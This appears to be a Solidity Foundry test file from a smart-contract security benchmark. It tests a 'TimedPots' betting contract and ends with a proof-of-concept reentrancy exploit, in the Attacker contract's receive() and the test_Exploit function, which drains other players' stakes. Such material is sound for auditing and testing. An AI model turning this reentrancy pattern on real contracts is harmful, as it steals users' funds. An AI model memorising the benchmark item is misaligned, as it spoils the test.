// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./TimedPots.sol";

// assay-canary-49adf5c7-a0db-413c-acce-d7f26b161d6a

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant HOUSE = address(0x09E);
    uint256 private constant START = 1_700_000_000;

    TimedPots private pots;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        pots = new TimedPots(HOUSE);
        vm.deal(ANA, 50 ether);
        vm.deal(BEN, 50 ether);
        vm.prank(ANA);
        pots.open{value: 5 ether}(7 days);
        vm.prank(BEN);
        pots.join{value: 5 ether}(0);
        mallory = new Attacker(pots);
        vm.deal(address(mallory), 1 ether);
    }

    function test_Regular() public {
        vm.prank(BEN);
        require(pots.open{value: 1 ether}(1 hours) == 1 && pots.count() == 2, "opened");
        vm.warp(START + 30 minutes);
        vm.prank(ANA);
        pots.join{value: 1 ether}(1);
        (address last,, uint64 end,, uint128 sum) = pots.pots(1);
        require(last == ANA && end == START + 90 minutes && sum == 2 ether, "joined");
        vm.warp(end);
        vm.prank(ANA);
        pots.take(1);
        require(ANA.balance == 50 ether - 6 ether + 1.98 ether && pots.due() == 0.02 ether, "taken");
        (last,,,, sum) = pots.pots(1);
        require(last == address(0) && sum == 0, "gone");
        vm.warp(START + 7 days);
        vm.prank(BEN);
        pots.take(0);
        require(address(pots).balance == 0.12 ether && pots.due() == 0.12 ether, "taken too");
        vm.prank(HOUSE);
        pots.sweep();
        require(HOUSE.balance == 0.12 ether && pots.due() == 0, "swept");
    }

    function test_RefusesOpening() public {
        vm.expectRevert(TimedPots.NotHouse.selector);
        new TimedPots(address(0));
        vm.startPrank(BEN);
        vm.expectRevert(TimedPots.BadSpan.selector);
        pots.open{value: 1 ether}(0);
        vm.expectRevert(TimedPots.BadSpan.selector);
        pots.open{value: 1 ether}(7 days + 1);
        vm.expectRevert(TimedPots.BadStake.selector);
        pots.open{value: 99}(1 days);
        vm.stopPrank();
    }

    function test_RefusesPlayers() public {
        vm.startPrank(ANA);
        vm.expectRevert(TimedPots.BadStake.selector);
        pots.join{value: 4 ether}(0);
        vm.expectRevert(TimedPots.Over.selector);
        pots.join(7);
        vm.warp(START + 7 days - 1);
        vm.expectRevert(TimedPots.Running.selector);
        pots.take(0);
        vm.warp(START + 7 days);
        vm.expectRevert(TimedPots.Over.selector);
        pots.join{value: 5 ether}(0);
        vm.expectRevert(TimedPots.NotLast.selector);
        pots.take(0);
        vm.expectRevert(TimedPots.NotHouse.selector);
        pots.sweep();
        vm.stopPrank();
    }

    // the proof itself takes no ether
    function test_RefusesPayment() public {
        vm.deal(address(this), 1 ether);
        uint256 id = pots.open{value: 1 ether}(1 hours);
        vm.warp(START + 1 hours);
        vm.expectRevert(TimedPots.NotPaid.selector);
        pots.take(id);
    }

    function exploit() public {
        mallory.start();
        vm.warp(block.timestamp + 1 hours);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 9 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pots);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    TimedPots private pots;
    uint256 private id;

    constructor(TimedPots p) {
        pots = p;
    }

    function start() external {
        id = pots.open{value: 1 ether}(1 hours);
    }

    function run() external {
        pots.take(id);
    }

    receive() external payable {
        if (address(pots).balance >= 1 ether) {
            pots.take(id);
        }
    }
}
